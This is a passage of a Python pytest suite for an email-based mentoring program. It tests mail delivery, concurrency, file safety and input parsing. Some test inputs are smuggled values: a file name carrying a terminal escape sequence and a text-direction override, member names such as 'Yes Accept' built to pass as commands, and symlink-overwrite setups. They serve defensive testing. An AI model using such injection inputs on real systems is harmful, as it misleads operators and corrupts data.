        def at_dot(recipient: str, dialogue: Any) -> str:
            if left[0] > 0:
                left[0] -= 1
                return code
            return "250 taken"

        post.at_dot = at_dot

    return begins


def at_rcpt(answer: str) -> Callable[[Post], None]:
    def begins(post: Post) -> None:
        post.at_rcpt = lambda recipient: answer

    return begins


def bare(post: Post) -> None:
    post.at_dot = lambda recipient, dialogue: "250"


ODD_SMTP: dict[str, Callable[[Post], None]] = {
    "it passes on to elsewhere": at_rcpt("251 2.1.5 User not local; will forward"),
    "it cannot verify": at_rcpt("252 2.5.2 cannot verify, but will take it"),
    "it says a bare number": bare,
    "its disk is full for a while": later_once("452 4.3.1 insufficient storage", 3),
    "it thinks that we are spam for a while": later_once("554 5.7.1 message content rejected", 2),
    "it says five without more for our policy": later_once("550 5.7.26 unauthenticated email is not accepted", 2),
}  # fmt: skip


@grave("a letter is lost or goes out twice because of how a server answers")
@pytest.mark.parametrize("how", ODD_SMTP)
def test_each_letter_arrives_once_whatever_number_the_server_says(how: str, tmp_path: Path, request: pytest.FixtureRequest) -> None:  # fmt: skip
    """flow.md, dispatch: after a 4xx it tries again; a 5xx that concerns us (5.7.x) is tried again for 3 days."""
    post = Post()
    ODD_SMTP[how](post)
    with sending_to(post, tmp_path, url_of(request)) as world, world.parts() as parts:
        both_sign_up(world, parts)
        for later in (6, 18, 40, 90, 180, 300):
            a_pass(parts, timedelta(minutes=later))
        world.write(BOX_MIA, "REQUEST M-1001", "Would you?", "Mia Lund")
        for later in (310, 330, 400, 500):
            a_pass(parts, timedelta(minutes=later))
        accepts(world, post.got(BOX_JON)[-1])
        for later in (510, 530, 600, 800):
            a_pass(parts, timedelta(minutes=later))
        assert states_on(world, "relationships") == ["active"]
    for who in (BOX_JON, BOX_MIA):
        ids = [str(message_from_bytes(m)["Message-ID"]) for m in post.got(who)]
        assert len(ids) == len(set(ids)) == 3, (
            who,
            [message_from_bytes(m)["Subject"] for m in post.got(who)],
        )


def ids_to(world: BoxProgram, who: str) -> list[str]:
    return [str(message_from_bytes(m)["Message-ID"]) for m in box_letters(world, who)]


@grave("an answer is done twice, or lost, when a clock is set while it is on its way")
@pytest.mark.parametrize("jump", [-400 * 24, -26, -3, 26, 400 * 24])
def test_a_clock_that_is_set_between_a_request_and_its_answer_loses_nothing(
    database: str, tmp_path: Path, jump: int
) -> None:
    """FAULTS 15: clock jumps; DESIGN, promises: records change exactly once."""
    world = BoxProgram(tmp_path, database=database)
    with world.parts() as parts:
        question = asked_on(world, parts)
        before = len(ids_to(world, BOX_MIA))
        a_pass(parts, timedelta(hours=jump))
        accepts(world, question)
        for later in (10, 20, 90, 300):
            a_pass(parts, timedelta(minutes=later))
    states = states_on(world, "requests")
    assert states in (["accepted"], ["expired"]), states
    assert len(ids_to(world, BOX_MIA)) > before
    assert len(set(ids_to(world, BOX_MIA))) == len(ids_to(world, BOX_MIA))
    assert exported(world)["inbox"]["waiting"] == 0


@grave("two programs on one mailbox do one mail twice")
def test_a_second_program_on_the_same_mailbox_does_nothing_twice(database: str, tmp_path: Path) -> None:
    """FAULTS 17; flow.md: records change once."""
    world = BoxProgram(tmp_path, database=database)
    world.sign_up()
    with world.parts() as one:
        a_pass(one)
        world.write(
            "zoe@west.example",
            "SIGN UP MENTEE",
            "Name: Zoe Lind\nPractice areas: Critical care\nGoals: To learn.\n",
            "Zoe Lind",
        )
        said = run(["--config", str(world.folder / "config.toml")], "once")
        a_pass(one, timedelta(minutes=1))
        a_pass(one, timedelta(minutes=20))
    assert "Traceback" not in said, said
    people = [m["email"] for m in exported(world)["members"]]
    assert sorted(people) == sorted([BOX_JON, "ada@south.example", "zoe@west.example"])
    for who in people:
        assert len(set(ids_to(world, who))) == 1, (who, said)


CROSSING: dict[str, tuple[str, Steps, Seen]] = {
    # mails that lie in the mailbox together, or cross an hour, a due date or a server that is away
    "renew and end, in one minute": ("paired", (days(160), many(lambda w: w.drop(MIA, "RENEW", "RENEW"), lambda w: w.drop(JON, "END NOW", "END NOW"), lambda w: w.work()), hours(3)), lambda w: parted(w) and "renewed" not in letter_names(got(w, MIA))),
    "his yes and her goodbye, in one minute": ("asked", (lambda w: w.drop(MIA, "LEAVE", "LEAVE"), jon_says("ACCEPT"), hours(3)), lambda w: not introduced(w, JON)),
    "his yes in words, and she is erased in that hour": ("asked", (jon_says("Yes, happy to mentor Mia!"), lambda w: erase(w, MIA), hours(3)), lambda w: letter_names(got(w, JON))[-1] == "ended" and MIA not in addresses(w) and parted(w)),
    "his yes in words, his own erasure in that hour": ("asked", (jon_says("Yes, happy to mentor Mia!"), lambda w: erase(w, JON), hours(3)), lambda w: not introduced(w, MIA) and parted(w)),
    "the deadline between his yes and its reading": ("asked", (days(13), server_down, hours(30), lambda w: w.drop(JON, "Re: mentoring", "ACCEPT REQ-1"), server_up, hours(3)), lambda w: introduced(w, MIA) <= 1),
    "her end, and the check-in that same morning": ("paired", (days(20), writes(MIA, "END NOW"), days(2)), lambda w: "check-in" not in letter_names(got(w, JON)) and "check-in" not in letter_names(got(w, MIA))),
    "a break until the day of the check-in": ("paired", (writes(MIA, "PAUSE UNTIL 23 March 2026"), days(30)), lambda w: together(w) and w.standing(MIA) == "active"),
    "a move that is confirmed after the end": ("paired", (writes(MIA, f"CHANGE ADDRESS {MIA_HOME}"), writes(JON, "END NOW"), answers(MIA_HOME, "confirm-address", "YES"), hours(3)), lambda w: parted(w) and MIA_HOME not in whole(got(w, JON))),
    "a concern, and an offer of another term that day": ("paired", (days(140), writes(MIA, "CONCERN", "I would rather not say."), days(30)), lambda w: "renewal-offer" not in letter_names(got(w, JON)) and "renewal-offer" not in letter_names(got(w, MIA))),
    "her undo and his end, in one minute": ("paired", (writes(MIA, "END NOW"), many(lambda w: w.drop(MIA, "UNDO", "UNDO"), lambda w: w.drop(JON, "END NOW", "END NOW"), lambda w: w.work()), hours(3)), parted),
    "erased, and an answer to an old letter after it": ("paired", (lambda w: erase(w, MIA), answers(MIA, "introduction-mentee", "Dear Jon, thank you for all, otter."), days(1)), lambda w: MIA not in addresses(w) and "otter" not in whole(got(w, JON))),
    "a request in the queue, and its mentee moves and asks another": ("asked", (writes(MIA, "QUEUE M-1003"), writes(MIA, f"CHANGE ADDRESS {MIA_HOME}"), answers(MIA_HOME, "confirm-address", "YES"), jon_says("REJECT"), days(3)), lambda w: MIA not in addresses(w) and not [m for m in got(w, MIA) if m.letter == "next-request"]),
    "a coordinator's end, and her undo after his own": ("paired", (orders("END REL-1"), writes(JON, "END NOW"), orders("UNDO"), hours(3)), parted),
    "removed, and in that hour an answer to a request": ("asked", (orders(f"REMOVE {JON}"), jon_says("ACCEPT"), hours(3)), lambda w: not introduced(w, MIA)),
}  # fmt: skip


@grave("two mails that cross are done one against the other, or somebody hears what is not so")
@pytest.mark.parametrize("how", CROSSING)
def test_what_crosses_comes_to_one_end(how: str) -> None:
    """flow.md, deeds and second thoughts (the other writes meanwhile; something else befalls the pair; who takes it back, or leaves, is never introduced)."""
    kind, steps, seen = CROSSING[how]
    world = fresh(kind)
    plays(world, steps)
    assert seen(world), how_it_is(world)


@grave("on a database two mails that cross come to another end than in memory")
@pytest.mark.parametrize("how", ["renew and end, in one minute", "his yes in words, and she is erased in that hour", "her undo and his end, in one minute", "a move that is confirmed after the end"])  # fmt: skip
def test_on_each_database_what_crosses_comes_to_one_end(both: Attacked, how: str) -> None:
    """As above; both stores must agree."""
    kind, steps, seen = CROSSING[how]
    world = as_prepared(both, kind)
    plays(world, steps)
    assert seen(world), how_it_is(world)


# =========================== 6. files that are not ours, and copies of the records =======================================================

MINE = b"<html><body>the board's own page, otter</body></html>"
Prepared = Callable[[Path], tuple[tuple[str, ...], Path]]  # the command, and the file that must stay as it is


def over(name: str, *words: str, content: bytes = MINE) -> Prepared:
    def act(folder: Path) -> tuple[tuple[str, ...], Path]:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        return tuple(word.format(path=path, folder=folder) for word in words), path

    return act


def over_link(*words: str, target: str = "config.toml", name: str = "out") -> Prepared:
    def act(folder: Path) -> tuple[tuple[str, ...], Path]:
        (folder / name).symlink_to(folder / target)
        return tuple(word.format(path=folder / name, folder=folder) for word in words), folder / target

    return act


def over_hard_link(*words: str) -> Prepared:
    def act(folder: Path) -> tuple[tuple[str, ...], Path]:
        os.link(folder / "config.toml", folder / "out.html")
        return tuple(
            word.format(path=folder / "out.html", folder=folder) for word in words
        ), folder / "config.toml"

    return act


def spoilt_table(kind: tuple[str, ...], pattern: str) -> Prepared:
    """One of its own tables, in the place of which there is a file of somebody else by now."""

    def act(folder: Path) -> tuple[tuple[str, ...], Path]:
        out = folder / "tables"
        run(["--config", str(folder / "config.toml")], *kind, str(out))
        path = sorted(out.glob(pattern))[0]
        path.write_bytes(b"name,phone\nthe board,otter\n")
        return (*kind, str(out)), path

    return act


NOT_OURS: dict[str, Prepared] = {
    "a report over a page": over("page.html", "report", "--html", "{path}"),
    "a report over an empty file": over("page.html", "report", "--html", "{path}", content=b"otter"),
    "a printed report over another": over("report.pdf", "report", "--pdf", "{path}", content=b"%PDF-1.4\nthe board's, otter\n%%EOF\n"),
    "a report over the roster": over("roster.csv", "report", "--html", "{path}", content=b"email\nzoe@example.org\n"),
    "a report over a hard link to the configuration": over_hard_link("report", "--html", "{path}"),
    "a report through a link": over_link("report", "--html", "{path}"),
    "a replay's page over a page": over("page.html", "replay", "{folder}/inbox", "--page", "{path}"),
    "a replay's page through a link": over_link("replay", "{folder}/inbox", "--page", "{path}"),
    "a backup over a backup": over("night.backup", "backup", "{path}", content=b"SQLite format 3\0otter"),
    "a backup through a link": over_link("backup", "{path}"),
    "a gallery over a page": over("letters/index.html", "preview", "--all", "{folder}/letters"),
    "the directory over a page": over("pages/index.html", "directory", "{folder}/pages"),
    "the directory beside a page": over("pages/about.html", "directory", "{folder}/pages"),
    "tables over a table of somebody else": spoilt_table(("export", "--csv"), "members.csv"),
    "tables over a table of somebody else, events": spoilt_table(("export", "--csv"), "events.csv"),
    "a report's tables over a table of somebody else": spoilt_table(("report", "--csv"), "*.csv"),
    "the tables of a report over those of the records": over("tables/members.csv", "report", "--csv", "{folder}/tables", content=b"email,name\nzoe@example.org,Zoe\n"),
}  # fmt: skip


@grave("a file of somebody's is gone because a command was given its name")
@pytest.mark.parametrize("how", NOT_OURS)
def test_what_a_command_writes_replaces_nothing_that_it_did_not_write(how: str, tmp_path: Path) -> None:
    """operating.md, who may look into its files: only what the same command wrote there before is replaced, a backup never, and nothing is written through a link."""
    program = SmallProgram(tmp_path)
    program.sign_up("jon@north.example")
    program.done("once")
    words, path = NOT_OURS[how](tmp_path)
    before = path.read_bytes()
    said = run(program.command()[2:], *words)
    assert path.read_bytes() == before, said
    assert "Traceback" not in said, said
    assert program.here("once") == 0


@grave("a file is made where a link leads, which was to lead nowhere")
@pytest.mark.parametrize("words", [("report", "--html", "{}"), ("backup", "{}"), ("replay", "{folder}/inbox", "--page", "{}"), ("export", "--csv", "{}"), ("preview", "--all", "{}"), ("directory", "{}")])  # fmt: skip
def test_nothing_is_written_through_a_link_that_leads_nowhere_or_to_a_folder(
    words: tuple[str, ...], tmp_path: Path
) -> None:
    """operating.md: nothing is written through a link."""
    program = SmallProgram(tmp_path)
    program.sign_up("jon@north.example")
    program.done("once")
    away, folder = tmp_path / "away", tmp_path / "elsewhere"
    folder.mkdir(mode=0o700)
    for name, target in (("one", away), ("two", folder)):
        (tmp_path / name).symlink_to(target)
        said = run(program.command()[2:], *(w.format(tmp_path / name, folder=tmp_path) for w in words))
        assert "Traceback" not in said, said
        assert not away.exists(), said
        assert not list(folder.iterdir()), said


@grave("plain: a command does not write a second time what it wrote before")
@pytest.mark.parametrize("words", [("report", "--html", "{}/r.html"), ("report", "--csv", "{}/t"), ("export", "--csv", "{}/t"), ("preview", "--all", "{}/g"), ("directory", "{}/d")])  # fmt: skip
def test_a_command_writes_a_second_time_what_it_wrote_before(words: tuple[str, ...], tmp_path: Path) -> None:
    """operating.md: only what the same command wrote there before is replaced."""
    program = SmallProgram(tmp_path)
    program.sign_up("jon@north.example")
    program.done("once")
    for again in range(2):
        said = run(program.command()[2:], *(w.format(tmp_path) for w in words))
        assert said[0] == "0", (again, said)
        program.sign_up("ada@south.example")
        program.done("once")


def sqlite_copy(folder: Path) -> bytes:
    run(["--config", str(folder / "config.toml")], "backup", str(folder / "made"))
    content = (folder / "made").read_bytes()
    (folder / "made").unlink()
    return content


def exported_text(folder: Path) -> bytes:
    said = run(["--config", str(folder / "config.toml")], "export", "--json")
    return said.partition(" ")[2].encode()


COPIES: dict[str, tuple[str, Callable[[Path], bytes]]] = {
    "a picture, six folders down": ("a/b/c/d/e/f/holiday.jpg", sqlite_copy),
    "packed, under a name of a month": ("old/november", lambda folder: gzip.compress(sqlite_copy(folder))),
    "what export wrote": ("old/all.txt", exported_text),
    "a hidden file in a hidden folder": (".cache/.x", sqlite_copy),
    "in its mailbox": ("inbox/cur/1700000000.M1P1.host", sqlite_copy),
    "a dump in letters": ("old/dump.txt", lambda folder: b"--\n-- PostgreSQL database dump\n--\n\nCREATE TABLE public.members (id integer);\nCOPY public.members (email) FROM stdin;\njon@north.example\n\\.\n"),
    "with odd letters in its name": ("old/na\x1b[2Jme \u202efdp.db", sqlite_copy),
}  # fmt: skip


@grave("a copy of all records that anybody on the machine can read is called well")
@pytest.mark.parametrize("how", COPIES)
def test_the_doctor_finds_a_copy_of_the_records_whatever_its_name(how: str, tmp_path: Path) -> None:
    """operating.md, who may look into its files: by what is in a file, whatever its name, six levels; a dump, packed, and what export writes."""
    folder = tmp_path / "home"
    folder.mkdir(mode=0o755)
    tmp_path.chmod(0o755)
    program = SmallProgram(folder)
    program.sign_up("jon@north.example")
    program.done("once")
    name, make = COPIES[how]
    content = make(folder)
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    path.chmod(0o644)
    for parent in path.relative_to(folder).parents:
        (folder / parent).chmod(0o755)
    said = run(program.command()[2:], "doctor")
    piece = "me" if "\x1b" in name else name.split("/")[0] if "inbox" in name else name.rpartition("/")[2]
    assert said[0] == "1", said
    assert piece in "".join(said.split()), said
    assert "\x1b" not in said
    assert "\u202e" not in said
    (path.parent if path.parent != folder else folder).chmod(0o700)
    closed = run(program.command()[2:], "doctor")
    if path.parent != folder and "inbox" not in name:
        assert piece not in "".join(closed.split()) or piece == "me", closed


# =========================== 7. letters that are written late ============================================================================


def not_after(name: str, who: str, begin: list[int] | None = None) -> Seen:
    return lambda w: name not in letter_names(got(w, who)[3:])


LATE: dict[str, tuple[str, tuple[str, ...], Steps, Seen]] = {
    "his introduction, and it has ended": ("asked", ("introduction-mentor",), (jon_says("ACCEPT"), writes(MIA, "END NOW"), hours(3)), lambda w: introduced(w, JON) == introduced(w, MIA) == 1 and "nothing-to-end" in letter_names(got(w, MIA))),
    "her introduction, and he has left": ("asked", ("introduction-mentee",), (jon_says("ACCEPT"), writes(JON, "LEAVE"), hours(3)), lambda w: introduced(w, MIA) <= 1),
    "his introduction, and she has moved": ("asked", ("introduction-mentor",), (jon_says("ACCEPT"), writes(MIA, f"CHANGE ADDRESS {MIA_HOME}"), answers(MIA_HOME, "confirm-address", "YES"), hours(3)), lambda w: MIA_HOME in whole(got(w, JON)) and (f"mailto:{MIA}" not in words_of([m for m in got(w, JON) if m.letter == "introduction-mentor"]))),
    "his introduction, and she has both moved and been erased": ("asked", ("introduction-mentor",), (jon_says("ACCEPT"), writes(MIA, f"CHANGE ADDRESS {MIA_HOME}"), answers(MIA_HOME, "confirm-address", "YES"), lambda w: erase(w, MIA_HOME), hours(3)), lambda w: MIA_HOME not in whole(got(w, JON))),
    "a check-in, and he is erased": ("paired", ("check-in",), (days(22), lambda w: erase(w, JON), hours(3)), lambda w: "Jon Berg" not in words_of([m for m in got(w, MIA) if m.letter == "check-in"])),
    "a list of mentors, and one is erased": ("office", ("directory",), (writes(MIA, "BROWSE"), lambda w: erase(w, ADA), hours(1)), lambda w: "directory" in letter_names(got(w, MIA)) and "Ada Lind" not in words_of([m for m in got(w, MIA) if m.letter == "directory"])),
    "what they were told of her concern, and she is erased": ("paired", ("held",), (writes(MIA, "CONCERN", "Something is odd, otter."), lambda w: erase(w, MIA), hours(3)), lambda w: "Mia Okafor" not in words_of([m for m in got(w, CARLA)[-1:] if m.letter == "held"])),
    "how it stands, and it has ended": ("paired", ("status",), (writes(MIA, "STATUS"), writes(JON, "END NOW"), hours(3)), lambda w: parted(w)),
    "a question of his, and he has said no": ("asked", ("question",), (jon_says("Which clinic is she at?"), jon_says("REJECT"), hours(3)), lambda w: "question" not in letter_names(got(w, MIA))),
    "goodbye, and she has come back": ("office", ("left",), (writes(LEA, "LEAVE"), signs_up(LEA, "Lea Stone", "MENTEE"), hours(3)), lambda w: w.standing(LEA) == "active" and letter_names(got(w, LEA))[-1] != "left"),
    "what was done, and it is undone": ("paired", ("transcript",), (orders("END REL-1"), orders("UNDO DO-2"), hours(3)), lambda w: together(w) and bool(got(w, CARLA))),
    "an end by her mentor's erasure": ("paired", ("partner-erased", "ended"), (lambda w: erase(w, JON), hours(3)), lambda w: parted(w) and len(got(w, MIA)) > 3 and JON not in whole(got(w, MIA)[-1:])),
    "a nudge, and she has a mentor": ("office", ("nudge",), (days(8), orders(f"MATCH {LEA} WITH {ADA}"), hours(3)), lambda w: "nudge" not in letter_names(got(w, LEA)) and introduced(w, LEA) == 1),
    "a yes that came late, and its mentor is erased": ("asked", ("late-offer",), (days(16), jon_says("ACCEPT"), lambda w: erase(w, JON), hours(3)), lambda w: "late-offer" not in letter_names(got(w, MIA)) and "Jon Berg" not in words_of([m for m in got(w, MIA) if m.letter == "late-offer"])),
}  # fmt: skip


@grave("a letter that is written late tells what is over, or names or shows who is gone; or it is lost")
@pytest.mark.parametrize("how", LATE)
def test_a_letter_written_late_is_about_who_is_still_there(how: str) -> None:
    """flow.md, apply: a letter that cannot be written goes out when it can be, with the people and addresses of then; ERASE; operating.md: nobody who has left is offered."""
    kind, broken, steps, seen = LATE[how]
    world = fresh(kind)
    breaks(*broken)(world)
    plays(world, steps)
    mended(world)
    world.later(minutes=30)
    assert seen(world), how_it_is(world)


@grave("on a database a letter that is written late shows who is gone")
@pytest.mark.parametrize("how", ["his introduction, and she has both moved and been erased", "a check-in, and he is erased", "his introduction, and it has ended"])  # fmt: skip
def test_on_each_database_a_letter_written_late_is_as_in_memory(both: Attacked, how: str) -> None:
    """As above; both stores must agree."""
    kind, broken, steps, seen = LATE[how]
    world = as_prepared(both, kind)
    breaks(*broken)(world)
    plays(world, steps)
    mended(world)
    world.later(minutes=30)
    assert seen(world), how_it_is(world)


# =========================== 8. rules at their ends ======================================================================================

EXTREMES: dict[str, tuple[dict[str, Any], str, Steps, Seen]] = {
    "second thoughts for a day, and an undo of its last hour": ({"second_thoughts_minutes": 1440, "undo_hours": 24}, "paired", (writes(MIA, "END NOW"), hours(22), writes(MIA, "UNDO"), days(2)), lambda w: together(w) and "ended" not in letter_names(got(w, JON))),
    "second thoughts longer than undo": ({"second_thoughts_minutes": 240, "undo_hours": 1}, "paired", (writes(MIA, "END NOW"), hours(2), writes(MIA, "UNDO"), days(1)), lambda w: len(got(w, MIA)) > 4),
    "no check-ins": ({"check_in_days": ()}, "asked", (jon_says("ACCEPT"), days(100)), lambda w: "check-in" not in letter_names(got(w, MIA)) and together(w)),
    "check-in on the first day, and an end": ({"check_in_days": (1,)}, "paired", (writes(MIA, "END NOW"), days(3)), lambda w: "check-in" not in letter_names(got(w, MIA))),
    "no reminder of held mail": ({"held_reminder_days": 0}, "office", (writes(LEA, "A thing", NEEDS_A_PERSON), days(20)), lambda w: len(waiting(w)) == 1 and letter_names(got(w, CARLA)).count("held") == 1),
    "a place and no more": ({"most_capacity": 1}, "paired", (writes(LEA, "REQUEST M-1001", "Me too."), orders(f"CAPACITY {JON} 2"), hours(1)), lambda w: together(w)),
    "a reply proves for two weeks": ({"token_days": 14, "answer_days": 14}, "asked", (days(13), lambda w: w.reply(JON, question_to_jon(w), "ACCEPT", proof=""), hours(2)), lambda w: introduced(w, MIA) == 1),
    "ten open requests, and all say yes": ({"open_requests": 10}, "asked", (lambda w: w.write(MIA, "REQUEST M-1003", "Would you, too?"), jon_says("ACCEPT"), lambda w: w.reply(ADA, last(w, "request", ADA), "ACCEPT"), hours(3)), lambda w: len(pairs(w)) == 1 and introduced(w, MIA) == 1),
    "no nudges": ({"nudge_days": ()}, "office", (signs_up(NOA, "Noa Weiss", "MENTEE"), days(40)), lambda w: "nudge" not in letter_names(got(w, NOA))),
    "a coordinator's single mail a day, and a cry": ({"coordinator_letters_per_day": 1}, "paired", (writes(LEA, "A thing", NEEDS_A_PERSON), writes(MIA, "STATUS", f"STATUS\n\n{CRY}"), hours(2)), heard_at_once),
}  # fmt: skip


@grave("with a number of the rules at its end somebody is parted, or a cry is not read")
@pytest.mark.parametrize("how", EXTREMES)
def test_at_an_end_of_the_rules_what_is_promised_holds(how: str) -> None:
    """rules.md, policy.toml, key by key."""
    values, kind, steps, seen = EXTREMES[how]
    try:
        world = with_policy(kind, **values)
    except TypeError:
        pytest.skip("no such number")
    plays(world, steps)
    assert seen(world), how_it_is(world)


# =========================== 9. what people hand in ======================================================================================

ROSTERS: dict[str, bytes] = {
    # all of them hold jon@north.example and zoe@west.example
    "in Polish": "Imię;Nazwisko;E-mail\r\nJón;Żak;jon@north.example\r\nZoé;Łoś;zoe@west.example\r\n".encode("utf-8-sig"),
    "in Italian": b"Nome,Cognome,Indirizzo email\nJon,Berg,jon@north.example\nZoe,Lind,zoe@west.example\n",
    "in Dutch": "Voornaam;Achternaam;E-mailadres\r\nJon;Berg;jon@north.example\r\nZoë;Lind;zoe@west.example\r\n".encode("cp1252"),
    "in Swedish": "Namn\tE-post\nJon Berg\tjon@north.example\nZoë Lind\tzoe@west.example\n".encode("utf-16"),
    "with a separator's line": b"sep=;\r\nemail;name\r\njon@north.example;Jon Berg\r\nzoe@west.example;Zoe\r\n",
    "with blanks that do not break": "email,name\n\u00a0jon@north.example\u00a0,Jon\u00a0Berg\nzoe@west.example\u200b,Zoe\n".encode(),
    "with one twice in capitals": b"email,name\nJON@north.example,Jon\njon@NORTH.example,Jon\nzoe@west.example,Zoe\n",
    "with a dotless i": "email,name\njon@north.example,İlgaz Işık\nzoe@west.example,Zoe\n".encode(),
    "two columns of addresses": b"email,private email,name\njon@north.example,jon@home.example,Jon\nzoe@west.example,,Zoe\n",
    "with an address in brackets and quotes": b'email,name\n"""Berg, Jon"" <jon@north.example>",Jon\nzoe@west.example,Zoe\n',
}  # fmt: skip


@grave("half a roster is taken for the whole, or an address on it is another's")
@pytest.mark.parametrize("how", ROSTERS)
def test_a_roster_of_other_languages_is_read_whole_or_each_line_is_named(how: str) -> None:
    """for-coordinators.md, the roster: where one line cannot be read, each such line is named, and nothing of the file is imported."""
    found = read_roster(ROSTERS[how])
    assert (found.rows == () and bool(found.faults)) or sorted({a.lower() for a, _ in found.rows}) == ["jon@north.example", "zoe@west.example"], found  # fmt: skip


CALLED = ("Łukasz Żak", "İlgaz Işık", "Nagy Erzsébet", "João d’Ávila", "Siân O'Brien-Śliwa", "Mäkinen-Øst Åse", "Zoe\u0308 Lind", "Nguyễn Thị Ánh", "Yes Accept", "End Renew", "Jan van der Nee", "Null")  # fmt: skip


@grave("somebody cannot be found, asked or stopped because of their name, or their name commands something")
@pytest.mark.parametrize("name", CALLED)
def test_a_mentor_of_any_name_is_found_asked_and_answers(name: str) -> None:
    """for-coordinators.md, names: a person is an address, a code or the whole name; CHANGELOG: names of up to eighty characters in any script."""
    world = fresh("office")
    signs_up(NOA, name)(world)
    world.later(minutes=2)
    if not member(world, NOA) or member(world, NOA)["standing"] != "active":
        assert waiting(world), how_it_is(world)  # a name that is none waits for a person
        return
    found = world.write(CARLA, f"FIND {name}")
    assert NOA in told(found), told(found)
    world.write(CARLA, f"PAUSE {name.upper() if name.isascii() else name}")
    assert world.standing(NOA) == "paused", told(got(world, CARLA)[-1:])
    world.write(CARLA, f"RESUME {NOA}")
    world.write(MIA, f"REQUEST {name}", "Would you?")
    assert request_states(world) == "P", letter_names(got(world, MIA))
    world.reply(NOA, last(world, "request", NOA), f"ACCEPT\n\nKind regards\n{name}")
    world.later(hours=2)
    assert pairs(world) == [(NOA, MIA)] or len(got(world, NOA)) > 3 or waiting(world), how_it_is(world)


FLOWED = "text/plain; charset=utf-8; format=flowed"
P7S = "Content-Type: application/pkcs7-signature; name=smime.p7s\nContent-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwEAAAAA\n"
SHAPES: dict[str, Case] = {
    # how his words are packed, and how the request stands then
    "flowed, a no in its second line": ("asked", (), jon_by_hand(FLOWED, "I accept \nnothing of the kind.\n"), not_accepted),
    "flowed, a yes in two lines": ("asked", (), jon_by_hand(FLOWED, "I would be happy to mentor \nMia.\n"), stands("AP")),
    "flowed, stuffed": ("asked", (), jon_by_hand(FLOWED, " ACCEPT\n\n From Jon\n"), stands("AP")),
    "flowed, delsp": ("asked", (), jon_by_hand(FLOWED + "; delsp=yes", "I cannot acc \nept.\n"), not_accepted),
    "Polish in ISO-8859-2": ("asked", (), jon_by_hand("text/plain; charset=iso-8859-2\nContent-Transfer-Encoding: 8bit", "Tak, z przyjemnością.\n".encode("iso-8859-2")), stands("AP")),
    "Polish called Latin-1": ("asked", (), jon_by_hand("text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: 8bit", "Niestety nie mogę.\n".encode("iso-8859-2")), lambda w: request_states(w) in "PR"),
    "UTF-16": ("asked", (), jon_by_hand("text/plain; charset=utf-16\nContent-Transfer-Encoding: base64", base64.b64encode("Sorry, I cannot.\n".encode("utf-16")) + b"\n"), lambda w: request_states(w) in "PR"),
    "UTF-7": ("asked", (), jon_by_hand("text/plain; charset=utf-7", "+AEEAQwBDAEUAUABU- is what I will not say.\n"), not_accepted),
    "an unknown charset": ("asked", (), jon_by_hand("text/plain; charset=x-hospital-9", "REJECT\n"), lambda w: request_states(w) in "PR"),
    "Turkish capitals": ("asked", (), jon_by_hand("text/plain; charset=windows-1254\nContent-Transfer-Encoding: 8bit", "REJECT\n\nİyi günler\nJon".encode("windows-1254")), stands("R")),
    "soft ends of lines": ("asked", (), jon_by_hand("text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable", "I do n=\not acce=\npt.\n"), not_accepted),
    "printable, a no behind a long line": ("asked", (), jon_by_hand("text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable", quopri.encodestring(b"ACCEPT\n\nBut only if Mia pays me for each of our talks, and not before the summer of 2029.\n").decode()), not_accepted),
    "signed by S/MIME": ("asked", (), jon_by_hand('multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=s', f"--s\nContent-Type: text/plain\n\nACCEPT\n--s\n{P7S}--s--\n"), stands("A")),
    "signed, with a no after the signed part": ("asked", (), jon_by_hand("multipart/mixed; boundary=m", f'--m\nContent-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=s\n\n--s\nContent-Type: text/plain\n\nACCEPT\n--s\n{P7S}--s--\n--m\nContent-Type: text/plain\n\nNo, wait, I take that back.\n--m--\n'), not_accepted),
    "encrypted": ("asked", (), jon_by_hand("application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\nContent-Transfer-Encoding: base64", "MIAGCSqGSIb3DQEHA6CAMIACAQAxggE=\n"), stands("P")),
    "signed by PGP in the text": ("asked", (), jon_says(f"-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nACCEPT\n{ARMOUR}"), stands("A")),
    "signed by PGP, a no below it": ("asked", (), jon_says(f"-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nACCEPT\n{ARMOUR}\n\nNo, sorry, I pressed the wrong button."), not_accepted),
    "signed by PGP, a no above it": ("asked", (), jon_says(f"Not yet, please!\n\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nACCEPT\n{ARMOUR}"), not_accepted),
    "encrypted by PGP": ("asked", (), jon_says("-----BEGIN PGP MESSAGE-----\n\nhQEMA1234567890=\n=abcd\n-----END PGP MESSAGE-----"), stands("P")),
    "PGP around the same words of ours": ("asked", (), jon_says(f"-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\n- -- \nJon\n{ARMOUR}"), stands("P")),
    "Outlook's own format beside": ("asked", (), jon_by_hand("multipart/mixed; boundary=c", "--c\nContent-Type: text/plain\n\nACCEPT\n--c\nContent-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64\n\neJ8+IgAA\n--c--\n"), stands("AP")),
    "Outlook's own format alone": ("asked", (), jon_by_hand("application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64", "eJ8+IgAA\n"), stands("P")),
    "a no in an attached text": ("asked", (), jon_by_hand("multipart/mixed; boundary=c", "--c\nContent-Type: text/plain\n\nPlease see the attached text.\n--c\nContent-Type: text/plain; name=answer.txt\nContent-Disposition: attachment; filename=answer.txt\n\nACCEPT\n--c--\n"), stands("P")),
    "three texts, and the last takes it back": ("asked", (), jon_by_hand("multipart/mixed; boundary=c", "--c\nContent-Type: text/plain\n\nACCEPT\n--c\nContent-Type: image/png\nContent-Disposition: inline\nContent-Transfer-Encoding: base64\n\niVBORw0KGgo=\n--c\nContent-Type: text/plain\n\nSorry, I meant Lea.\n--c--\n"), not_accepted),
    "enriched text": ("asked", (), jon_by_hand("text/enriched; charset=utf-8", "<bold>I do not accept.</bold>\n"), not_accepted),
